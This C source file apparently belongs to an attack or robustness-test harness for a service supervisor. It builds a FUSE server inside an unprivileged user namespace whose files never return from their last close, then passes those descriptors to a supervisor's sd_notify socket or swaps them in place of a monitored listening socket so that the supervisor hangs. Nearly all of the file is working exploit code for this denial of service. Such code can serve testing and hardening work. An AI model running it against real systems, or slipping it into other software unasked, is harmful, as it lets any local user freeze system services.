/* SPDX-License-Identifier: BSD-2-Clause */
/* A file of a FUSE server that never writes what was changed: from Linux 6.16 on the last close of
 * it never returns, and no signal interrupts it. Any user can have one, in a namespace. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include "attack.h"

#define FOLDER 1 /* numbers of inodes */
#define FILES  2 /* and more: a file for each number */

static void fuse_write(const char *path, const char *text)
{
	const int fd = open(path, O_WRONLY | O_CLOEXEC);

	if (fd < 0 || write(fd, text, strlen(text)) < 0)
		perror(path);
	close(fd);
}

/* Returns the device. The user mounts the folder in namespaces of its own. */
static int fuse_mount(const char *device, const char *folder)
{
	const uid_t uid = getuid();
	const gid_t gid = getgid();
	char text[128];
	int fd;

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
		perror("attack: unshare");
	fuse_write("/proc/self/setgroups", "deny");
	snprintf(text, sizeof(text), "%u %u 1", uid, uid);
	fuse_write("/proc/self/uid_map", text);
	snprintf(text, sizeof(text), "%u %u 1", gid, gid);
	fuse_write("/proc/self/gid_map", text);
	fd = open(device, O_RDWR | O_CLOEXEC);
	snprintf(text, sizeof(text), "fd=%d,rootmode=40000,user_id=%u,group_id=%u", fd, uid, gid);
	if (mount("attack", folder, "fuse", MS_NODEV | MS_NOSUID, text) < 0)
		perror("attack: mount");
	return fd;
}

static void fuse_answer(int fd, uint64_t unique, int error, const void *data, size_t n)
{
	char text[sizeof(struct fuse_out_header) + sizeof(struct fuse_entry_out)];
	const struct fuse_out_header header = {
	        .len = (uint32_t)(sizeof(header) + n), .error = -error, .unique = unique};

	memcpy(text, &header, sizeof(header));
	memcpy(text + sizeof(header), data, n);
	if (write(fd, text, header.len) < 0)
		perror("attack: FUSE");
}

/* Of each file. What is written to a part of a file is read before. */
static uint64_t fuse_size;

static struct fuse_attr fuse_attributes(uint64_t inode)
{
	return (struct fuse_attr){
	        .ino = inode,
	        .mode = inode == FOLDER ? S_IFDIR | 0777 : S_IFREG | 0666,
	        .nlink = 1,
	        .uid = getuid(),
	        .gid = getgid(),
	        .size = inode == FOLDER ? 0 : fuse_size,
	        .blksize = 4096,
	};
}

/* A process for which closing a file is quick; other ones wait for ever. 0: it is for all. */
static pid_t fuse_friend;

/* A byte is written here when a process waits for ever. */
static int fuse_reached = -1;

static void fuse_let_wait(void)
{
	if (fuse_reached >= 0 && write(fuse_reached, "", 1) < 0)
		perror("attack: write");
}

static void fuse_obey(int fd, const struct fuse_in_header *request, const void *more)
{
	const struct fuse_init_out start = {
	        .major = FUSE_KERNEL_VERSION,
	        .minor = FUSE_KERNEL_MINOR_VERSION,
	        .max_readahead = 65536,
	        .flags = FUSE_WRITEBACK_CACHE,
	        .max_write = 65536,
	        .time_gran = 1,
	};
	struct fuse_entry_out entry = {.entry_valid = 1000, .attr_valid = 1000};
	const struct fuse_attr_out attributes = {.attr_valid = 1000,
	                                         .attr = fuse_attributes(request->nodeid)};
	const struct fuse_open_out opened = {.fh = 1};

	switch (request->opcode) {
	case FUSE_INIT:
		fuse_answer(fd, request->unique, 0, &start, sizeof(start));
		break;
	case FUSE_LOOKUP: /* a file's name is its number */
		entry.nodeid = FILES + (uint64_t)atoi(more);
		entry.attr = fuse_attributes(entry.nodeid);
		fuse_answer(fd, request->unique, 0, &entry, sizeof(entry));
		break;
	case FUSE_GETATTR:
		fuse_answer(fd, request->unique, 0, &attributes, sizeof(attributes));
		break;
	case FUSE_OPEN:
		fuse_answer(fd, request->unique, 0, &opened, sizeof(opened));
		break;
	case FUSE_FLUSH:
	case FUSE_RELEASE:
		if (!fuse_friend || request->pid == (uint32_t)fuse_friend)
			fuse_answer(fd, request->unique, 0, "", 0);
		else
			fuse_let_wait();
		break;
	case FUSE_READ:
		fuse_let_wait();
		break;
	case FUSE_WRITE: /* for ever */
	case FUSE_FORGET:
	case FUSE_BATCH_FORGET:
		break;
	default:
		fuse_answer(fd, request->unique, ENOSYS, "", 0);
	}
}

static void fuse_serve(int fd)
{
	static char text[1 << 20] __attribute__((aligned(8)));

	for (;;)
		if (read(fd, text, sizeof(text)) >= (ssize_t)sizeof(struct fuse_in_header))
			fuse_obey(fd, (const struct fuse_in_header *)text,
			          text + sizeof(struct fuse_in_header));
}

/* A socket with a message that has a file whose last close never returns. The file is open a second
 * time here, with changes. Closing it here before would not return either. */
static int fuse_pack_file(const char *path)
{
	const int changed = open(path, O_RDWR | O_CLOEXEC), fd = open(path, O_RDWR | O_CLOEXEC);
	int pair[2];

	if (changed < 0 || fd < 0)
		perror("attack: open");
	if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, pair) < 0)
		perror("attack: socketpair");
	attack_send_file(pair[0], NULL, "\n", fd);
	close(pair[0]);
	if (write(changed, "x", 1) < 0)
		perror("attack: write");
	return pair[1];
}

static void fuse_send_files(int device, const char *folder, const char *socket_path)
{
	struct sockaddr_un address = {.sun_family = AF_UNIX};
	const int to = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	prctl(PR_SET_PDEATHSIG, SIGKILL);
	close(device); /* the server's end ends all that waits for it */
	snprintf(address.sun_path, sizeof(address.sun_path), "%s", socket_path);
	for (int i = 0;; i++) {
		char path[256];

		snprintf(path, sizeof(path), "%s/%d", folder, i);
		attack_send_file(to, &address, "\n", fuse_pack_file(path));
	}
}

/* Sends such files to the socket of sd_notify(3) @arguments[2], so that only the receiver has them
 * open, until one is refused, which holds the sender. @arguments[0], [1]: the FUSE device and a
 * folder to mount. */
ATTACK(fuse_descriptors)
{
	const int device = fuse_mount(arguments[0], arguments[1]);

	if (fork() == 0)
		fuse_send_files(device, arguments[1], arguments[2]);
	else
		fuse_serve(device);
}

/* For some 100 us. */
static void fuse_spin(void)
{
	for (volatile int i = 0; i < 50000; i++)
		;
}

/* Listens on @port, a few times. While the supervisor looks for the listener, descriptors
 * FIRST and LAST are the listener, and a file, by turns. */
static void fuse_swap(const char *folder, const char *port)
{
	enum { FIRST = 100, KEPT = 200, LAST = 300, LISTENS = 100, TURNS = 20 };
	const struct sockaddr_in address = {.sin_family = AF_INET,
	                                    .sin_port = htons((uint16_t)atoi(port))};
	char path[256];
	int file;

	snprintf(path, sizeof(path), "%s/0", folder);
	file = open(path, O_RDWR | O_CLOEXEC);
	if (file < 0)
		perror("attack: open");
	for (int n = 0; n < LISTENS; n++) {
		const int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

		if (bind(fd, (const struct sockaddr *)&address, sizeof(address)) < 0)
			perror("attack: bind");
		dup2(fd, KEPT);
		close(fd);
		listen(KEPT, 1);
		for (int i = 0; i < TURNS; i++) {
			dup2(KEPT, FIRST);
			dup2(KEPT, LAST);
			fuse_spin();
			dup2(file, FIRST);
			dup2(file, LAST);
			fuse_spin();
		}
		close(KEPT);
	}
}

/* The supervisor, which looks for a listener of this worker on port @arguments[2], finds a file,
 * sooner or later, and closing that never returns. Ends, to be started again. @arguments[0], [1]:
 * as above. */
ATTACK(fuse_in_place_of_listener)
{
	const int device = fuse_mount(arguments[0], arguments[1]);

	fuse_friend = getpid();
	if (fork() == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		fuse_serve(device);
	}
	close(device);
	fuse_swap(arguments[1], arguments[2]);
	exit(1);
}

int attack_fuse_open(char **arguments, int *ret_reached)
{
	const int device = fuse_mount(arguments[0], arguments[1]);
	char path[256];
	int reached[2], fd;

	if (pipe(reached) < 0)
		perror("attack: pipe");
	fuse_friend = getpid();
	fuse_size = 4096;
	if (fork() == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		fuse_reached = reached[1];
		fuse_serve(device);
	}
	close(device);
	close(reached[1]);
	snprintf(path, sizeof(path), "%s/0", arguments[1]);
	fd = open(path, O_RDWR);
	if (fd < 0)
		perror("attack: open");
	*ret_reached = reached[0];
	return fd;
}
